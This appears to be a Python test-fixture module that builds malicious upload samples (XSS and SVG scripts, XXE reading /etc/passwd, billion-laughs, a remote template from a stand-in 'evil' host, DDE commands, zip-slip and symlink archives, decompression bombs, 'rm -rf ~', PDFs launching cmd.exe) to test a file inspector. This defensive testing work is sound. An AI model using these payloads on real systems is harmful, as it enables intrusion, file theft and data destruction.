"""Files that want to do harm, made here: each with its name, and the medium somebody would try to pass it off as."""

import io
import stat
import struct
import zipfile
import zlib

from PIL import Image

from shijian.evidence.inspection import EICAR
from shijian.evidence.testing import box, film, jpeg, pdf, tone

SCRIPT = b"<script>fetch('/people/')</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'
EXTERNAL = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
    b"</Relationships>"
)


def zipped(parts, *, method=zipfile.ZIP_DEFLATED, link=""):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        if link:
            entry = zipfile.ZipInfo(link)
            entry.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(entry, "/etc/passwd")
    return buffer.getvalue()


def office(parts, main="word/document.xml"):
    return zipped({"[Content_Types].xml": b"<Types/>", main: b"<w:document/>", **parts})


def overlapping():
    """Two entries of the directory that share the same packed bytes (the quoted kind of bomb)."""
    one = zipped({"word/a.xml": b"0" * 200_000})
    end = one.rindex(b"PK\x05\x06")
    start = one.index(b"PK\x01\x02")
    entry = one[start:end]
    tail = bytearray(one[end:])
    tail[8:12] = struct.pack("<HH", 2, 2)
    tail[12:16] = struct.pack("<I", 2 * len(entry))
    return one[:end] + entry + bytes(tail)


def png_claiming(width, height):
    def chunk(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(64))) + chunk(b"IEND", b"")
    )


def png_with_text_bomb():
    def chunk(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buffer, "PNG")
    plain = buffer.getvalue()
    return plain[:33] + chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(80 * 2**20))) + plain[33:]


BOMB = {f"word/media/{n}.xml": bytes(4 * 2**20) for n in range(20)}
# name of the case: (file name, medium, content)
REFUSED = {
    "svg as photo": ("图.svg", "photo", SVG),
    "svg named jpg": ("图.jpg", "photo", SVG),
    "svg as paper": ("图.svg", "document", SVG),
    "html as paper": ("说明.html", "document", b"<!doctype html>" + SCRIPT),
    "html named pdf": ("说明.pdf", "document", b"<html>" + SCRIPT),
    "script in a text": ("说明.txt", "document", b"\xef\xbb\xbf <script>alert(1)</script>"),
    "javascript link in a text": ("说明.txt", "document", b"javascript:alert(1)"),
    "xml with entity as paper": ("数据.xml", "document", XXE),
    "docx with entity": ("合同.docx", "document", office({"word/styles.xml": XXE})),
    "docx with laughs": ("合同.docx", "document", office({"word/styles.xml": LAUGHS})),
    "docx with entity in UTF-16": ("合同.docx", "document", office({"word/styles.xml": XXE.decode().encode("utf-16")})),
    "xlsx with entity": ("表.xlsx", "document", office({"xl/styles.xml": XXE}, "xl/workbook.xml")),
    "ofd with entity": ("证明.ofd", "document", zipped({"OFD.xml": XXE})),
    "docx with macro": ("合同.docx", "document", office({"word/vbaProject.bin": b"x"})),
    "docm": ("合同.docm", "document", office({})),
    "docx loading a template": ("合同.docx", "document", office({"word/_rels/settings.xml.rels": EXTERNAL})),
    "docx with a command": ("合同.docx", "document", office({"word/x.xml": b"<w:instrText>DDEAUTO cmd</w:instrText>"})),
    "docx that is a bomb": ("合同.docx", "document", office(BOMB)),
    "docx with overlapping entries": ("合同.docx", "document", overlapping()),
    "docx climbing out": ("合同.docx", "document", office({"../../etc/cron.d/x": b"x"})),
    "docx climbing out the other way": ("合同.docx", "document", office({"word\\..\\..\\x": b"x"})),
    "docx with an absolute path": ("合同.docx", "document", office({"/etc/passwd": b"x"})),
    "docx with a drive": ("合同.docx", "document", office({"C:/x": b"x"})),
    "docx with a link": ("合同.docx", "document", zipped({"word/document.xml": b"<w/>"}, link="word/passwd")),
    "zip as paper": ("资料.zip", "document", zipped({"a.txt": b"x"})),
    "cut zip named docx": ("合同.docx", "document", office({})[:-30]),
    "program": ("安装.exe", "document", b"MZ" + bytes(200)),
    "program named pdf": ("合同.pdf", "document", b"MZ" + bytes(200)),
    "program named jpg": ("照片.jpg", "photo", b"\x7fELF" + bytes(200)),
    "shell script": ("说明.txt", "document", b"#!/bin/sh\nrm -rf ~\n"),
    "eicar": ("说明.txt", "document", EICAR + b"$H+H*"),
    "double suffix": ("照片.jpg.exe", "photo", jpeg()),
    "double suffix the other way": ("照片.exe.jpg", "photo", jpeg()),
    "script suffix in the middle": ("照片.php.jpg", "photo", jpeg()),
    "letters running backwards": ("照片\u202egpj.jpg", "photo", jpeg()),
    "png named jpg": ("图.jpg", "photo", png_claiming(8, 8)),
    "flood of pixels": ("图.png", "photo", png_claiming(60_000, 60_000)),
    "flood of pixels, just above": ("图.png", "photo", png_claiming(10_000, 5_001)),
    "text bomb in a png": ("图.png", "photo", png_with_text_bomb()),
    "photo cut short": ("照片.jpg", "photo", b"\xff\xd8\xff\xe0"),
    "gif with script": ("图.gif", "photo", b"GIF89a/*" + SCRIPT + b"*/"),
    "bmp": ("图.bmp", "photo", b"BM" + bytes(200)),
    "film of nothing": ("录像.mp4", "video", box(b"ftyp", b"isom\0\0\0\0")),
    "film with a broken box": ("录像.mp4", "video", box(b"ftyp", b"isom\0\0\0\0") + b"\0\0\0\x02moov"),
    "film that is a page": ("录像.mp4", "video", b"<html>" + SCRIPT),
    "film named exe": ("录像.mp4.exe", "video", film()),
    "sound that is a page": ("录音.mp3", "audio", b"<script>1</script>"),
    "photo as film": ("录像.jpg", "video", jpeg()),
    "sound as photo": ("录音.wav", "photo", tone(0.1)),
    "text that is no text": ("说明.txt", "document", bytes(range(256))),
}  # fmt: skip
# Taken in, but never as they are: what is wrong is said beside them and pages show a copy made anew, or nothing.
TAMED = {
    "photo with a zip behind": ("照片.jpg", "photo", jpeg() + zipped({"a.exe": b"MZ"}), "压缩包"),
    "photo with a page behind": ("照片.jpg", "photo", jpeg() + b"<html>" + SCRIPT, "网页代码"),
    "photo with php in a comment": ("照片.jpg", "photo", jpeg()[:2] + b"\xff\xfe\x00\x12<?php phpinfo" + bytes(2) + jpeg()[2:], "网页代码"),
    "pdf with script": ("合同.pdf", "document", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "脚本"),
    "pdf with script written oddly": ("合同.pdf", "document", pdf(b"/OpenAction << /S /J#61v#61Script /J#53 (x) >>"), "脚本"),
    "pdf that starts programs": ("合同.pdf", "document", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "外部程序"),
    "pdf with a file in it": ("合同.pdf", "document", pdf(b"/Names << /EmbeddedFiles 9 0 R >>"), "内嵌"),
    "pdf with a zip behind": ("合同.pdf", "document", pdf() + zipped({"a.exe": b"MZ"}), "压缩包"),
}  # fmt: skip
